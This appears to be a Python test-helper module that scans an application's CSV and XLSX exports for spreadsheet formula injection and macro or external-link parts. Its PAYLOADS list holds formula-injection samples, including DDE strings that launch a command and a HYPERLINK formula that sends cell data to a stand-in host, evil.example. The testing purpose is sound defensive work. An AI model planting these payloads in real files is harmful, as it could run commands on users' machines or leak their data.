"""Every address that lets something out: which files it gives, and what a spreadsheet sees in them.

A new one has to be added here, so that somebody looks at what stands in its cells.
"""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from typing import Any
from xml.etree import ElementTree

# What a way out gives, as `files_of` names it.
GIVES: dict[str, set[str]] = {
    "release_file": {"xlsx"},
    "release_paper": {"page"},
    "rights_copy": {"html", "json"},
    "demand_produce": {"html", "json"},
    "pack_file": {"xlsx", "csv"},
    "pack_paper": {"page"},
    "referral_new": {"another page"},
    "referral_later": {"another page"},
}
# What hands on bytes as they were, or no cells, and why nothing of ours is written into a cell.
WITHOUT_CELLS = {
    "case_file": "the bytes that a worker put in; no browser opens them",
    "incoming_file": "the bytes that another house's worker put in; no browser opens them",
    "file": "an age file; in it are a page, JSON and files as they were put in",
    "referral_link": "a page with a link",
    "partner_api_referrals": "JSON",
    "partner_api_referral": "JSON",
    "partner_api_recall": "JSON",
}
# What spreadsheets take for the beginning of a formula, the wide letters included.
TRIGGERS = tuple("=+-@\t\r\n＝＋－＠")
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '";=1+1;"',
    ',=1+1,"',
    "x\n=1+1",
    "'=1+1",
)
# No form takes these; a table that is made from a list of codes could hold them all the same.
UNSEEN = ("\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1")
SPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
PROGRAMS = re.compile(
    r"vbaproject|externallinks|ddelink|connections|customui|\.bin$", re.IGNORECASE
)


def files_of(answer: Any) -> dict[str, list[bytes]]:
    """The files of an answer by their endings; archives are opened. A page is `page`."""
    if answer.status_code == 302:
        return {"another page": [b""]}
    if "Content-Disposition" not in answer.headers:
        return {"page": [answer.content]}
    found: dict[str, list[bytes]] = {}
    name = answer.headers["Content-Disposition"].rpartition("filename=")[2].strip('"')
    for ending, content in _opened(name, answer.content):
        found.setdefault(ending, []).append(content)
    return found


def _opened(name: str, content: bytes) -> Iterator[tuple[str, bytes]]:
    ending = name.rpartition(".")[2].lower()
    if ending != "zip":
        yield ending, content
        return
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for each in archive.namelist():
            yield from _opened(each, archive.read(each))


def dangers(ending: str, content: bytes) -> list[str]:
    """What a spreadsheet would do more than show, in a file of ours."""
    if ending == "csv":
        return list(_in_csv(content))
    if ending == "xlsx":
        return list(_in_workbook(content))
    return (
        []
        if ending in {"html", "json", "xml", "page", "another page"}
        else [f"a new kind: {ending}"]
    )


def texts(ending: str, content: bytes) -> list[str]:
    """Every text in the cells of a file."""
    if ending == "csv":
        return [cell for row in _rows(content) for cell in row]
    if ending == "xlsx":
        return [text for _style, text in _cells(content)]
    return []


def _rows(content: bytes) -> Iterator[list[str]]:
    yield from csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))


def _in_csv(content: bytes) -> Iterator[str]:
    """Every cell as a spreadsheet reads it, with commas or with semicolons between."""
    for row in _rows(content):
        for cell in row:
            if cell.startswith(TRIGGERS):
                yield f"the cell {cell!r}"


def _in_workbook(content: bytes) -> Iterator[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if PROGRAMS.search(name):
                yield f"the part {name}"
            elif name.startswith("xl/worksheets/"):
                yield from _in_sheet(_xml(archive.read(name)))
        quoted = _quoted(_xml(archive.read("xl/styles.xml")))
    for style, text in _cells(content):
        if text.startswith(TRIGGERS) and style not in quoted:
            yield f"the text {text!r} becomes a formula once somebody edits it"


def _xml(part: bytes) -> ElementTree.Element:
    """A part of a workbook that this test has just downloaded from our own writer."""
    return ElementTree.fromstring(part)  # noqa: S314  no stranger's file comes here


def _in_sheet(sheet: ElementTree.Element) -> Iterator[str]:
    for word in ("f", "hyperlink", "oleObject", "control", "legacyDrawing"):
        yield from (f"an element {word}" for _ in sheet.iter(f"{SPACE}{word}"))


def _quoted(styles: ElementTree.Element) -> set[str]:
    """The styles that say of a cell that it is text whatever it looks like."""
    formats = styles.find(f"{SPACE}cellXfs")
    listed = enumerate(formats if formats is not None else ())
    return {str(number) for number, each in listed if each.get("quotePrefix") == "1"}


def _cells(content: bytes) -> Iterator[tuple[str, str]]:
    """Style and text of each cell that holds text."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        shared = _xml(archive.read("xl/sharedStrings.xml"))
        strings = ["".join(part.text or "" for part in each.iter(f"{SPACE}t")) for each in shared]
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                sheet = _xml(archive.read(name))
                for cell in sheet.iter(f"{SPACE}c"):
                    if cell.get("t") == "s":
                        number = int(cell.findtext(f"{SPACE}v") or 0)
                        yield cell.get("s", "0"), strings[number]
